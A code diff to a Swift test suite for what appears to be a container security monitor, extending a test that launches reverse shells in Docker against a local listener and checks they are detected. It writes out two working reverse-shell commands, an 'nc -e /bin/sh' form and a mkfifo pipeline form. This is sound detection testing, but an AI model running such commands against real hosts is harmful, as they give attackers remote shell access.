@@ -237,7 +237,14 @@ struct WatchServiceTests {
     #expect(!engine.works && engine.reason.contains("/nonexistent.sock"))
   }
 
-  @Test func aReverseShellThatRanBeforeIsFoundAtTheStart() throws {
+  /// One shell on the socket itself, one behind a pipeline: both are found by what their descriptors lead to.
+  @Test(arguments: [
+    (["nc", "127.0.0.1", "PORT", "-e", "/bin/sh"], "reverse-shell.stdio"),
+    (
+      ["sh", "-c", "busybox mkfifo /f; sh -i </f 2>&1 | nc 127.0.0.1 PORT >/f"], "reverse-shell.pipeline"
+    ),
+  ])
+  func aReverseShellThatRanBeforeIsFoundAtTheStart(_ command: [String], _ rule: String) throws {
     let engine = try Self.engine()
     // Loopback only: the container shares the host's network, the listener is this process.
     let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
@@ -254,10 +261,9 @@ struct WatchServiceTests {
     }
     listen(listener, 1)
     let port = UInt16(bigEndian: address.sin_port)
-    try engine.docker([
-      "run", "-d", "--network", "host", "--name", "taken", "watched:1", "nc", "127.0.0.1", String(port), "-e",
-      "/bin/sh",
-    ])
+    try engine.docker(
+      ["run", "-d", "--network", "host", "--name", "taken", "watched:1"]
+        + command.map { $0.replacingOccurrences(of: "PORT", with: String(port)) })
     let connection = accept(listener, nil, nil)
     defer { close(connection) }
     // The shell answers: from now on it runs.
@@ -268,8 +274,8 @@ struct WatchServiceTests {
     _ = running.stop()
     try engine.docker(["rm", "-f", "taken"])
     let found = running.findings.withLock {
-      $0.first { $0.rule == "reverse-shell.stdio" && $0.subject.name == "taken" }
+      $0.first { $0.rule == rule && $0.subject.name == "taken" }
     }
-    #expect(found?.severity == .critical)
+    #expect(found.map { $0.severity >= .high } == true)
   }
 }
